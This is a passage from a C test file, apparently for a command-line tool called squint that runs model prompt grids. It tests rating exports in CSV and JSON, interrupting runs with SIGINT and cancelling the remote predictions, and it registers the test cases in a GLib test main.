        note = sq_project_get_note (project, row->id, NULL, &error);
        g_assert_no_error (error);
        if (g_str_equal (before_row->status, "succeeded"))
          {
            g_assert_cmpstr (row->response, ==, before_row->response);
            g_assert_cmpint (sq_project_get_rating (project, row->id, SQ_CRITERION_CORRECTNESS, NULL, NULL), ==, 4);
            g_assert_cmpstr (note, ==, "checked by hand");
          }
        else
          {
            g_assert_null (note);
          }
      }
  }
  g_assert_nonnull (strstr (resume->out, "resumed"));

  /* The ratings, in long format. */
  {
    g_autoptr(Run) csv = run_squint (fixture, "export", fixture->project, "-f", "ratings-csv", NULL);
    g_autoptr(Run) json = run_squint (fixture, "export", fixture->project, "-f", "ratings-json", NULL);
    g_autoptr(GPtrArray) rows = parse_csv (csv->out);
    g_autoptr(GPtrArray) objects = load_json_array (json->out);
    char **header;

    g_assert_cmpint (csv->status, ==, 0);
    g_assert_cmpint (json->status, ==, 0);
    g_assert_cmpuint (rows->len, ==, n_succeeded + 1);
    g_assert_cmpuint (objects->len, ==, n_succeeded);
    header = g_ptr_array_index (rows, 0);
    for (guint r = 1; r < rows->len; r++)
      {
        char **row = g_ptr_array_index (rows, r);

        g_assert_cmpstr (row[column_index (header, "criterion")], ==, "correctness");
        g_assert_cmpstr (row[column_index (header, "score")], ==, "4");
      }
  }
}

static void
test_interrupt (Fixture       *fixture,
                gconstpointer  data)
{
  const char *prompts[] = { "take your time", NULL };
  const char *jobs[] = { "-j", "2", NULL };
  g_autoptr(GPtrArray) args = compare_args (fixture, prompts, 2, 2, jobs);
  g_autoptr(GSubprocess) process = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *rest = NULL;
  g_autofree char *err = NULL;
  g_autoptr(GPtrArray) rows = NULL;
  g_autoptr(GPtrArray) requests = NULL;
  guint n_canceled = 0;

  process = spawn_squint (fixture, (const char * const *) args->pdata);

  /* Wait until both running cells have their prediction (squint logs it
   * right when it stores the id). */
  {
    g_autoptr(GDataInputStream) err_lines = g_data_input_stream_new (g_subprocess_get_stderr_pipe (process));
    guint n_started = 0;

    g_filter_input_stream_set_close_base_stream (G_FILTER_INPUT_STREAM (err_lines), FALSE);
    while (n_started < 2)
      {
        g_autofree char *line = g_data_input_stream_read_line_utf8 (err_lines, NULL, NULL, &error);

        g_assert_no_error (error);
        g_assert_nonnull (line);
        if (strstr (line, "sq-grid-run-DEBUG") != NULL && strstr (line, " is prediction ") != NULL)
          n_started++;
      }
  }

  g_subprocess_send_signal (process, SIGINT);
  g_subprocess_communicate_utf8 (process, NULL, NULL, &rest, &err, &error);
  g_assert_no_error (error);
  g_test_message ("exit %d\nstdout: %s\nstderr: %s", sq_test_process_status (process), rest,
                  strlen (err) > 3000 ? err + strlen (err) - 3000 : err);
  g_assert_cmpint (sq_test_process_status (process), ==, 130);
  assert_clean (rest, err);

  /* Canceled on Replicate, and marked so. */
  requests = dup_requests (fixture);
  g_clear_pointer (&rows, g_ptr_array_unref);
  rows = snapshot_rows (fixture->project);
  for (guint i = 0; i < rows->len; i++)
    {
      RowSnapshot *row = g_ptr_array_index (rows, i);

      if (g_str_equal (row->status, "canceled"))
        {
          g_autofree char *path = g_strconcat ("/v1/predictions/", row->prediction_id, "/cancel", NULL);

          g_assert_cmpuint (count_path (requests, 0, "POST", path), ==, 1);
          n_canceled++;
        }
      else
        {
          g_assert_cmpstr (row->status, ==, "queued");
        }
    }
  g_assert_cmpuint (n_canceled, ==, 2);
}

static const char * const fake_long[] = { "--answer-tokens", "3000", NULL };
static const char * const fake_slow[] = { "--token-delay-ms", "50", "--start-delay-ms", "20", NULL };

int
main (int   argc,
      char *argv[])
{
  g_autoptr(GError) error = NULL;
  g_autofree char *keyring_dir = NULL;
  int status;

  g_test_init (&argc, &argv, NULL);

  keyring_dir = g_dir_make_tmp ("squint-test-cli-grid-keyring-XXXXXX", &error);
  g_assert_no_error (error);
  keyring_path = g_build_filename (keyring_dir, "keyring", NULL);

#define ADD(path, func, args) \
  g_test_add (path, Fixture, args, fixture_setup, func, fixture_teardown)

  ADD ("/cli-grid/full-grid-exports", test_full_grid_exports, NULL);
  ADD ("/cli-grid/export-errors", test_export_errors, NULL);
  ADD ("/cli-grid/usage", test_compare_usage, NULL);
  ADD ("/cli-grid/failing-cell-rerun", test_failing_cell_and_rerun, NULL);
  ADD ("/cli-grid/terminal-escapes", test_terminal_escapes, NULL);
  ADD ("/cli-grid/kill-resume", test_kill_and_resume, fake_slow);
  ADD ("/cli-grid/interrupt", test_interrupt, fake_long);

#undef ADD

  status = g_test_run ();

  g_unlink (keyring_path);
  g_rmdir (keyring_dir);
  g_free (keyring_path);

  return status;
}
